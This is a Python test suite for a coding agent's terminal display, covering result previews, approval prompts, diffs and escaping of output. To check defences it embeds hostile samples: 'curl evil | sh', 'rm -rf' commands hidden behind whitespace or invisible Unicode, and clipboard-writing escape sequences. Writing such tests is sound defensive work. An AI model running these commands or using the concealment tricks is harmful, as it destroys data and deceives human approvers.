"""What the live terminal view shows of calls and results, and how it asks for approval."""

from __future__ import annotations

import asyncio
import contextlib
import io
import json
import os
from collections.abc import Iterator

import pytest
from rich.console import Console
from rich.text import Text

from controller.cli.display import (
    APPROVAL_ROWS,
    JsonSink,
    LiveSink,
    approval,
    command_tail,
    context_line,
    preview,
    result_lines,
    result_mark,
    summarize_args,
    tail_lines,
)
from controller.wire.events import (
    CommandOutput,
    ContextEdited,
    SessionFinished,
    SessionStarted,
    TextDelta,
    ToolCall,
    ToolResult,
    Usage,
    UserMessage,
)


def _console(width: int = 100, clock: list[float] | None = None) -> Console:
    return Console(
        file=io.StringIO(),
        width=width,
        force_terminal=True,
        color_system=None,
        get_time=(lambda: clock[0]) if clock is not None else None,
    )


def _render(renderable: object, width: int = 100) -> str:
    console = _console(width)
    console.print(renderable)
    return console.file.getvalue()  # type: ignore[attr-defined,no-any-return]


def _result(exit_code: int | None, is_error: bool = False, output: str = "") -> ToolResult:
    return ToolResult(
        session_id="s",
        id="t",
        name="run_command",
        is_error=is_error,
        output=output,
        model_chars=0,
        duration_s=0.1,
        exit_code=exit_code,
    )


def test_result_preview_for_the_live_view() -> None:
    assert preview("exit code 0 after 0.1s\n<stdout>\nLinux x86_64\n1000\n</stdout>\n") == "Linux x86_64  (+1 lines)"
    assert preview("timed out after 1.0s; killed (exit code -9)\n<stdout>\nhalf\n</stdout>\n").startswith("timed out")
    assert preview("Wrote 5 bytes to a.txt.") == "Wrote 5 bytes to a.txt."
    assert preview("") == ""
    assert summarize_args("write_file", {"path": "a.py", "content": "x" * 10}) == "a.py (10 chars)"
    assert summarize_args("run_command", {"command": "make\ntest", "timeout_s": 5}) == "make ⏎ test timeout_s=5"
    assert summarize_args("run_command", {"command": "x" * 200}) == "x" * 160 + "… (+40 characters)"


def test_a_failed_command_is_marked_with_its_exit_code() -> None:
    assert result_mark(_result(1)).plain == "  ✗ exit 1 "
    assert result_mark(_result(137, is_error=True)).plain == "  ✗ exit 137 "
    assert result_mark(_result(0)).plain == "  ✓ "
    assert result_mark(_result(None)).plain == "  ✓ "
    assert result_mark(_result(None, is_error=True)).plain == "  ✗ "


def test_the_spinner_turns() -> None:
    clock = [100.0]
    console = _console(clock=clock)
    sink = LiveSink(console)
    frames = []
    for step in range(4):
        clock[0] = 100.0 + step * 0.25
        with console.capture() as capture:
            console.print(sink.footer())
        frames.append(capture.get()[0])
    assert len(set(frames)) == 4, frames


def test_approval_shows_the_whole_command_without_markup() -> None:
    shown = _render(approval("run_command", {"command": "git status" + " " * 170 + "; echo pwned > f"}), width=60)
    assert "git status⟨170 spaces⟩; echo pwned > f" in shown
    long = "echo " + "a" * 150 + " && echo [conceal]tail[/conceal]"
    shown = _render(approval("run_command", {"command": long + "\nrm -rf build", "timeout_s": 9}), width=60)
    assert "".join(shown.split()).count("a" * 150) == 1  # wrapped onto several rows, nothing cut
    assert "[conceal]tail[/conceal]" in shown and "\n> rm -rf build" in shown and "(timeout 9s)" in shown


def test_a_long_command_is_recapped_beside_the_question() -> None:
    """A flood of rows or blank-looking letters cannot scroll the first line away or pass for empty space."""
    filler = "\u3164" * 400 + "\u2800" * 3 + "\uffa0"
    shown = _render(
        approval("run_command", {"command": "rm -rf /workspace/src " + filler + "\n" + ":\n" * 2000 + "echo hi"})
    )
    assert "\u3164" not in shown and "\u2800" not in shown and "\uffa0" not in shown
    recap = "".join(shown[shown.index("> echo hi") :].split())  # the rows after the command, unwrapped
    assert recap.startswith(">echohiThatis2,002linesand") and "$rm-rf/workspace/src\\u3164" in recap
    assert recap.endswith("(226morecharacters)")
    assert "That is" not in _render(approval("run_command", {"command": "make test"}))


def test_approval_of_a_write_shows_its_content_bounded() -> None:
    content = "".join(f"line {i}\n" for i in range(100))
    shown = _render(approval("write_file", {"path": "notes.md", "content": content}))
    assert "notes.md (100 lines, 790 characters)" in shown
    assert "line 0" in shown and f"line {APPROVAL_ROWS - 1}\n" in shown and f"line {APPROVAL_ROWS}\n" not in shown
    assert f"… {100 - APPROVAL_ROWS} more lines not shown" in shown
    one_line = _render(approval("write_file", {"path": "min.js", "content": "x" * 10_000}))
    assert "the rest of line 1 not shown (6,000 characters)" in one_line


def test_approval_of_an_edit_shows_the_diff() -> None:
    shown = _render(
        approval("edit_file", {"path": "a.py", "old_string": "x = 1\ny = 2\n", "new_string": "x = 1\ny = 3\n"})
    )
    assert "a.py:" in shown and "- y = 2" in shown and "+ y = 3" in shown and "  x = 1" in shown
    every = _render(approval("edit_file", {"path": "a.py", "old_string": "a", "new_string": "b", "replace_all": True}))
    assert "(every occurrence)" in every


@pytest.fixture
def pipe() -> Iterator[tuple[int, int]]:
    read, write = os.pipe()
    yield read, write
    for fd in (read, write):
        with contextlib.suppress(OSError):
            os.close(fd)


async def test_approval_reads_the_answer_on_the_event_loop(pipe: tuple[int, int]) -> None:
    read, write = pipe
    sink = LiveSink(_console(), stdin=read)
    os.write(write, b"maybe\n")
    asking = asyncio.create_task(sink.approve("run_command", {"command": "true"}))
    await asyncio.sleep(0.05)
    assert not asking.done()  # "maybe" is asked again
    os.write(write, b"y\n")
    assert await asyncio.wait_for(asking, 10) is True
    os.write(write, b"\n")
    assert await asyncio.wait_for(sink.approve("run_command", {"command": "true"}), 10) is False  # no by default
    waiting = asyncio.create_task(sink.approve("run_command", {"command": "true"}))
    await asyncio.sleep(0.05)
    waiting.cancel()  # Ctrl-C: no thread blocks in input(), so cancelling ends the question at once
    with pytest.raises(asyncio.CancelledError):
        await waiting
    os.close(write)
    assert await asyncio.wait_for(sink.approve("run_command", {"command": "true"}), 10) is False  # end of input


async def test_two_answers_that_arrive_together_answer_two_questions(pipe: tuple[int, int]) -> None:
    """CI run 7 hung here: on a loaded machine the question was read only after both lines had arrived, one
    read took both, and the second question waited for a line that had already been consumed."""
    read, write = pipe
    sink = LiveSink(_console(), stdin=read)
    os.write(write, b"maybe\ny\nn\n")
    assert await asyncio.wait_for(sink.approve("run_command", {"command": "true"}), 10) is True
    assert await asyncio.wait_for(sink.approve("run_command", {"command": "true"}), 10) is False


async def test_json_events_are_ascii_so_a_terminal_shows_them_inert(capsys: pytest.CaptureFixture[str]) -> None:
    hostile = "\x1b]52;c;eA==\x07 \u009b2J \u202eevil \ud800"
    await JsonSink().emit(TextDelta(session_id="s", text=hostile))
    line = capsys.readouterr().out
    assert line.isascii() and "\x1b" not in line
    assert json.loads(line)["text"] == hostile


def test_a_context_edit_is_one_dim_line_in_the_live_view() -> None:
    event = ContextEdited(
        session_id="s",
        kind="mask",
        reason="threshold",
        upto=40,
        tokens_before=104_000,
        tokens_after=61_500,
        duration_s=0.01,
    )
    assert (
        _render(context_line(event)).strip()
        == "↺ context: old tool results cleared (threshold), ~104,000 → ~61,500 tokens"
    )


def test_the_tail_under_the_spinner_marks_a_line_a_carriage_return_rewrote() -> None:
    text = "building\n 10%\r 50%\r100%\ncurl evil | sh\rall tests passed\n\n"
    assert tail_lines(text) == ["building", "⟲ 100%", "⟲ all tests passed"]
    assert tail_lines("".join(f"line {n}\n" for n in range(20)), 3) == ["line 17", "line 18", "line 19"]


async def test_a_running_commands_last_lines_show_under_the_spinner_inert_until_its_result() -> None:
    console = _console()
    sink = LiveSink(console)
    await sink.emit(ToolCall(session_id="s", id="t", name="run_command", input={"command": "make"}))
    for n in range(8):
        await sink.emit(CommandOutput(session_id="s", tool_use_id="t", text=f"step {n}\n"))
    await sink.emit(CommandOutput(session_id="s", tool_use_id="t", text="\x1b]52;c;cGF5bG9hZA==\x07 \u202e done\n"))
    shown = _render(sink.footer())
    assert [line.strip() for line in shown.splitlines()[:5]] == [
        "│ step 4",
        "│ step 5",
        "│ step 6",
        "│ step 7",
        "│ \\x1b]52;c;cGF5bG9hZA==\\x07 \\u202e done",
    ]
    await sink.emit(_result(0))
    assert "│" not in _render(sink.footer())


PYTEST_RUN = (
    "exit code 1 after 2.1s\n<stdout>\n============ test session starts ============\ncollected 3 items\n\n"
    "test_cart.py ..F\n\x1b]52;c;cGF5bG9hZA==\x07 FAILED test_cart.py::test_empty\n"
    "======= 1 failed, 2 passed in 0.12s =======\n</stdout>\n<stderr>\nwarning: 10%\r100%\n</stderr>\n"
)


def test_a_finished_commands_result_keeps_its_last_lines_inert() -> None:
    note, lines, before = command_tail(PYTEST_RUN)
    assert note == "" and before == 3
    assert lines == [
        "\x1b]52;c;cGF5bG9hZA==\x07 FAILED test_cart.py::test_empty",
        "======= 1 failed, 2 passed in 0.12s =======",
        "⟲ 100%",
    ]
    shown = _render(Text("\n").join(result_lines(_result(1, output=PYTEST_RUN))))
    assert shown.splitlines() == [
        "  ✗ exit 1 0.10s (3 earlier lines)",
        "    │ \\x1b]52;c;cGF5bG9hZA==\\x07 FAILED test_cart.py::test_empty",
        "    │ ======= 1 failed, 2 passed in 0.12s =======",
        "    │ ⟲ 100%",
    ]
    assert "\x1b" not in shown and "test session starts" not in shown


def test_a_short_or_timed_out_commands_result() -> None:
    one = _render(Text("\n").join(result_lines(_result(0, output="exit code 0 after 0.1s\n<stdout>\nhi\n</stdout>\n"))))
    assert one.splitlines() == ["  ✓ 0.10s hi"]
    timed_out = "timed out after 1.0s; killed (exit code -9)\n<stdout>\nhalf\n</stdout>\n"
    assert [t.plain for t in result_lines(_result(-9, is_error=True, output=timed_out))] == [
        "  ✗ exit -9 0.10s timed out after 1.0s; killed (exit code -9)",
        "    │ half",
    ]
    other = _result(None, output="Wrote 5 bytes to a.txt.").model_copy(update={"name": "write_file"})
    assert [t.plain for t in result_lines(other)] == ["  ✓ 0.10s Wrote 5 bytes to a.txt."]


async def test_the_live_view_prints_a_finished_commands_last_lines() -> None:
    console = _console()
    sink = LiveSink(console)
    await sink.emit(ToolCall(session_id="s", id="t", name="run_command", input={"command": "pytest"}))
    await sink.emit(_result(1, output=PYTEST_RUN))
    printed = console.file.getvalue()  # type: ignore[attr-defined]
    assert "1 failed, 2 passed in 0.12s" in printed and "test session starts" not in printed


async def test_show_prints_each_turns_user_message_before_what_the_agent_did() -> None:
    """``cubicle show`` replays the stored events through the live view: the task (in ``session_started``), a
    follow-up or a review's comments (``user_message``) come before that turn's work, as the viewer shows them."""
    console = _console()
    sink = LiveSink(console)
    finished = SessionFinished(session_id="s", reason="end_turn", steps=1, usage=Usage())
    for event in (
        SessionStarted(session_id="s", repo="/r", task="add a test\nfor the \x1b[2J empty cart", model="m"),
        TextDelta(session_id="s", text="Reading the tests.\n"),
        finished,
        UserMessage(session_id="s", text="now make it pass"),
        TextDelta(session_id="s", text="Fixed.\n"),
        finished,
    ):
        await sink.emit(event)
    printed = console.file.getvalue()  # type: ignore[attr-defined]
    order = [
        printed.index(said) for said in ("you │ add a test", "Reading the tests.", "you │ now make it pass", "Fixed.")
    ]
    assert order == sorted(order), printed
    assert "\x1b[2J" not in printed and "\\x1b[2J" in printed
